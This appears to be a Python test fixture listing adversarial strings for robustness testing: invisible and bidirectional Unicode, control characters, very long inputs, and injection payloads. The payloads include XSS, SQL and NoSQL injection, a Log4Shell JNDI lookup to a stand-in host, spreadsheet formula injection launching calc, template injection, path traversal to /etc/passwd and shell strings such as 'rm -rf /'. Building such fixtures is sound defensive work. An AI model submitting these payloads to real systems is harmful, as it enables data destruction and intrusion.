"""Text that breaks programs: invisible, lying, unstorable, endless, or written for a machine that obeys it."""

LINK = "http://evil.example/x"
INVISIBLE = {
    "zwj": "👩‍🔧👨‍👩‍👧‍👦",
    "rtl": "\u202eתשובה\u202c مرحبا \u2067x\u2069",
    "zero-width": "补\u200b贴\u200c多\u2060少\ufeff",
    "surrogate": "补贴\ud83d",
    "nul": "补\x00贴",
    "controls": "\x07\x1b[31m红\x1b[0m\x85",
    "combining": "z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘",
    "flags": "🏳️‍🌈🇨🇳🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "astral": "𠮷𡘙𪚥",
}
INJECTED = {
    "html": f'<a href="{LINK}">点</a><b>',
    "script": "<script>alert(1)</script>",
    "entity": "&lt;b&gt;&#0;&amp;",
    "markdown": f"[点]({LINK}) *粗* `码`",
    "sql": "'; DROP TABLE inbox; --",
    "like": "%_\\%' OR '1'='1",
    "log": "好\n2026-11-21 00:00:00 CRITICAL root: 伪造\r\n",
    "format": "%s%n{0}{__class__}${jndi:ldap://evil.example/a}",
    "formula": '=HYPERLINK("http://evil.example")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "template": "{{7*7}}{% raise %}",
    "json": '"}],"x":{"$ne":null}',
    "path": "../../../etc/passwd\\..\\",
    "shell": "$(reboot) `id` ; rm -rf /",
    "command": "/staff AAAA-AAAA-AAAA",
    "button": "region:150200",
    "place": "finish",
}
LONG = {"long": "补贴" * 50_000, "one-word": "a" * 100_000, "brackets": "(" * 20_000, "lines": "\n" * 50_000}
TEXTS = {**INVISIBLE, **INJECTED, **LONG}
